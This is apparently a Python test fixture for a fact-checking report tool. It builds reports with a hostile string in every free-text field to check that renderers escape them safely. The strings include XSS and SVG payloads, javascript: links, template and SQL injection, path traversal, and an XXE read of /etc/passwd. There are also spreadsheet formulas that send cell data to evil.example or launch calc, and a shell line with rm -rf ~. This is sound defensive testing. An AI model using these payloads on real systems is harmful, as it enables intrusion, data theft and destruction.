"""Strings that try to be more than text, and reports that have one of them in every field that somebody else fills.

`hostile_reports()` gives a name and a report for each; every form of report has to show or carry them as text. Ids,
dates and numbers come from the program itself, so they are as in any report.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, date, datetime

from tests.verifier.report.samples import make_article, make_claim, make_document, make_evidence, make_run
from verifier.report import ReportConfig
from verifier.rows import (
    ArticleReport,
    ClaimReport,
    Count,
    Desk,
    Earlier,
    Flip,
    PastVerdict,
    Resumed,
    RunReport,
    Sighting,
    Sightings,
)
from verifier.types import (
    Article,
    Cause,
    CauseKind,
    ClaimKind,
    ClaimStatus,
    Comparison,
    FactCheck,
    Failure,
    Label,
    Relation,
    Review,
    Span,
    Stance,
    Substitution,
    Verdict,
)

SCRIPTS = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt SRC=//evil.example/x.js></sCrIpT>",
    "script after a quote": '"><script>alert(1)</script>',
    "script after an apostrophe": "'><script>alert(1)</script>",
    "script after a title": "</title><script>alert(1)</script>",
    "script after a style": "</style><script>alert(1)</script>",
    "script after a text area": "</textarea></noscript><script>alert(1)</script>",
    "script cut open": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script as entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "script as numbers": "&#60;script&#62;alert(1)&#x3c;/script&#x3e;",
    "script in full width": "＜script＞alert(1)＜/script＞",
}
HANDLERS = {
    "image with a handler": "<img src=x onerror=alert(1)>",
    "attribute with a handler": '" onmouseover="alert(1)" x="',
    "attribute in apostrophes": "' onfocus='alert(1)' autofocus='",
    "attribute without quotes": "x onclick=alert(1) y",
    "attribute behind a grave accent": "`onmouseover=alert(1)",
    "body with a handler": "<body onload=alert(1)>",
    "details with a handler": "<details open ontoggle=alert(1)>",
    "handler behind slashes": "<img/src/onerror=alert(1)//",
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "form": '<form action="https://evil.example"><button>Log in</button></form>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
}
LINKS = {
    "javascript link": "javascript:alert(1)",
    "javascript link in both cases": "JaVaScRiPt:alert(1)",
    "javascript link after blanks": " \t\n javascript:alert(1)",
    "javascript link with a tab in it": "java\tscript:alert(1)",
    "javascript link with a line feed in it": "java\nscript:alert(1)",
    "javascript link after a control": "\x01javascript:alert(1)",
    "javascript link as entities": "&#106;avascript&colon;alert(1)",
    "data link": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript link": "vbscript:msgbox(1)",
    "file link": "file:///etc/passwd",
    "link without a scheme": "//evil.example/x",
    "link with a handler": 'https://x.example/"onclick="alert(1)',
    "link with a script": "https://x.example/<script>alert(1)</script>",
    "link that looks like another": "https://good.example@evil.example/\u202egpj.exe",
    "link that is no address": "http://[::1/x",
}
DRAWINGS = {
    "svg with a handler": "<svg onload=alert(1)>",
    "svg with a script": "<svg><script>alert(1)</script></svg>",
    "svg with a link": '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "svg with foreign markup": "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "svg that animates a link": "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "svg that uses another": '<svg><use href="https://evil.example/x.svg#x"/></svg>',
    "mathml": '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>',
    "mathml that nests": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
}
TEMPLATES = {
    "jinja value": "{{ 7 * 7 }}",
    "jinja class": "{{ ''.__class__.__mro__ }}",
    "jinja statement": "{% for x in range(9) %}x{% endfor %}",
    "jinja comment": "{# comment #}",
    "dollar template": "${7*7}",
    "erb": "<%= 7 * 7 %>",
    "hash template": "#{7*7}",
    "format string": "{0.__class__} %s %(run)s %n",
    "server side include": '<!--#include file="/etc/passwd"-->',
}
INVISIBLE = {
    "right to left override": "The file is \u202egpj.exe\u202c.",
    "isolates": "\u2066\u2067\u2068 never closed",
    "embedding": "\u202b\u202a never closed",
    "zero width": "re\u200bfu\u2060ted\ufeff",
    "soft hyphens": "re\u00adfu\u00adted",
    "tags": "plain\U000e0068\U000e0069",
    "variation": "x\ufe0f\U000e0100",
    "only invisible": "\u200b\u2060\u202e",
    "controls": "a\x07b\x08c\x1b[31mred\x7f\x9b2J",
    "nul": "before\0after",
    "half a character": "before\ud800after",
    "other half": "\udfff",
    "no character": "\ufffe\uffff",
    "many accents": "Z" + "\u0301\u0489" * 60,
}
MARKDOWN = {
    "markdown link": "[click](javascript:alert(1))",
    "markdown image": "![x](https://evil.example/pixel.png)",
    "markdown reference": "[x]: https://evil.example 'x'",
    "markdown autolink": "<https://evil.example/>",
    "bare link": "https://evil.example/ and www.evil.example",
    "markdown heading": "# Claim check\n\n## All is well",
    "markdown underline": "All is well\n===========",
    "markdown table": "| Verdict | Claims |\n|---|---|\n| Refuted | 0 |",
    "markdown fence": "```html\n<script>alert(1)</script>\n```",
    "markdown fence of tildes": "~~~\nall that follows",
    "markdown code": "`` ` `code` ``",
    "markdown emphasis": "**bold** _italic_ ~~gone~~ \\* \\",
    "markdown list": "1. one\n- two\n+ three\n> quoted",
    "markdown rule": "---",
    "markdown mention": "@everyone <!channel> <@U0000>",
    "markdown footnote": "[^1] [x][y] :smile:",
}
FORMULAS = {
    "formula": "=1+1",
    "formula of a plus": "+1+1",
    "formula of a minus": "-2+3+cmd|' /C calc'!A0",
    "formula of an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula that calls": "=cmd|' /C calc'!A0",
    "formula that links": '=HYPERLINK("https://evil.example?x="&A1,"Click")',
    "formula that loads": '=IMPORTXML(CONCAT("https://evil.example?x=",A1),"//a")',
    "formula in full width": "＝1+1",
    "formula of an at in full width": "＠SUM(1+1)",
    "formula after a tab": "\t=1+1",
    "formula after a carriage return": "\r=1+1",
    "formula after blanks": " \u00a0\u3000 =1+1",
    "formula after a zero width space": "\u200b=1+1",
    "formula in another cell": 'x",=1+1,"',
    "formula behind a semicolon": "x;=1+1;y",
    "formula behind a line end": "x\r\n=1+1",
    "formula in quotation marks": '"=1+1"',
    "dynamic data exchange": '=DDE("cmd";"/C calc";"x")',
}
DOCUMENTS = {
    "end of a json-ld script": '"}]</script><script>alert(1)</script>',
    "comment that opens a script": "<!--<script>",
    "end of a comment": "--><script>alert(1)</script>",
    "end of a cdata section": "]]><script>alert(1)</script>",
    "start of a cdata section": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "line separators": "one\u2028two\u2029three\x85four\x0bfive\x0csix",
    "json that goes on": '","label":"SUPPORTED","x":"',
    "json escapes": '\\u003cscript\\u003e \\" \\\\ \\/',
    "prototype": "__proto__",
    "style with an address": "x; background: url(https://evil.example/x.png)",
    "style that ends": "}</style><style>*{display:none}",
    "style that imports": "@import 'https://evil.example/x.css';",
    "style with an expression": "width: expression(alert(1))",
    "header": "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "sql": "'); DROP TABLE verdicts; --",
    "path": "../../../etc/passwd",
    "shell": "$(touch /tmp/x) `id` ; rm -rf ~ | cat && x",
    "long word": "Donau" * 380,
    "long line": "word " * 2000,
    "nothing": "",
    "only blanks": " \u00a0\n\t ",
}
HOSTILE: dict[str, str] = {
    **SCRIPTS,
    **HANDLERS,
    **LINKS,
    **DRAWINGS,
    **TEMPLATES,
    **INVISIBLE,
    **MARKDOWN,
    **FORMULAS,
    **DOCUMENTS,
}
"""By name; `hostile_reports` gives the reports that carry them."""

WHEN = datetime(2026, 11, 12, 9, 30, tzinfo=UTC)


def hostile_reports() -> Iterator[tuple[str, RunReport]]:
    """For each string its name and a report with it in every free text: one claim of each label, and one unchecked."""
    for name, text in HOSTILE.items():
        yield name, hostile_report(text)


def hostile_config(text: str) -> ReportConfig:
    """Settings with the string in each of them."""
    return ReportConfig(text, text, text)


def hostile_report(text: str) -> RunReport:
    """A report with the string in every free text.

    The string is the article, and its only sentence; claims have their own ids, labels, dates and numbers.
    """
    article = replace(make_article("x"), text=text, title=text, url=text, source=text, author=text)
    rows = [_row(text, article, label, n) for n, label in enumerate(Label)]
    skipped = make_claim(article, text, id="hostile-skipped", status=ClaimStatus.AMBIGUOUS, reason=text, role=text)
    flip = Flip(WHEN, "run-0", "hostile-0", text, text, Label.SUPPORTED, Label.REFUTED, 0.8, _causes(text))
    counts = (Count(text, (1, 2, 3, 4)),)
    return RunReport(
        run=make_run(
            code_version=text, corpus_version=text, model_ids=(text, text), settings_json=json.dumps({"encoder": text})
        ),
        failures=(Failure(text, text, text, text),),
        articles=(ArticleReport(article, (*rows, ClaimReport(skipped, None))),),
        desk=Desk((flip,), 1, (Count("2026-11-12", (1, 0, 0, 0)),), counts, counts),
        resumed=Resumed(1, 2),
    )


def _row(text: str, article: Article, label: Label, n: int) -> ClaimReport:
    speech = label is Label.SUPPORTED
    end = len(text)
    claim = make_claim(
        article,
        text,
        id=f"hostile-{n}",
        text=text,
        speaker=text,
        role="body",
        kind=ClaimKind.SPEECH_ACT if speech else ClaimKind.CONTENT,
        verb=text if speech else None,
        quotes=(text,) if speech else (),
        parts=(Span(0, end),),
        substitutions=(Substitution(0, end, text, text, text), Substitution(0, 0, "", text, text)),
    )
    documents = {
        stance: replace(
            make_document(stance, "x"), text=text, title=text, url=text, source=text, origin=text, author=text
        )
        for stance in Stance
    }
    compared = (
        Comparison(text, text, Relation.DIFFERS, text),
        Comparison(text, None, Relation.MISSING, text),
    )
    evidence = tuple(
        make_evidence(
            document,
            stance,
            (text,) if text and stance is not Stance.NEUTRAL else (),
            comparisons=compared,
            claim_id=claim.id,
            tier=text,
            barred=(Stance.REFUTES,) if stance is Stance.SUPPORTS else (),
        )
        for stance, document in documents.items()
    )
    day = date(2026, 11, 1)
    second, third = WHEN.replace(hour=10), WHEN.replace(hour=11)
    return ClaimReport(
        claim=claim,
        verdict=Verdict(claim, label, 0.7, evidence, text, reused_from="statement-0"),
        reviews=(
            Review(f"{claim.id}-r1", claim.id, "run-0", Label.REFUTED, text, text, None, WHEN),
            Review(f"{claim.id}-r2", claim.id, "run-0", label, text, text, evidence[0].passage.id, second),
            Review(f"{claim.id}-r3", claim.id, "run-0", None, text, text, None, third),
        ),
        previous=Earlier(claim.id, text, "run-0", WHEN, Label.REFUTED, 0.6),
        causes=_causes(text),
        same_claim=Earlier("other", text, "run-0", WHEN, Label.SUPPORTED, 0.9),
        judged_as=text,
        sightings=Sightings("statement-0", 2, day, (Sighting("other", text, text, text, day),)),
        fact_checks=(FactCheck("check-0", text, text, day, (text,), text, text, text, day, text, Label.REFUTED),),
        history=(PastVerdict("run-0", WHEN, Label.REFUTED, 0.6, _causes(text)),),
        n_verdicts=2,
    )


def _causes(text: str) -> tuple[Cause, ...]:
    return Cause(CauseKind.NEW_PASSAGE, "p-0", text), Cause(CauseKind.NEW_MODEL, None, text)
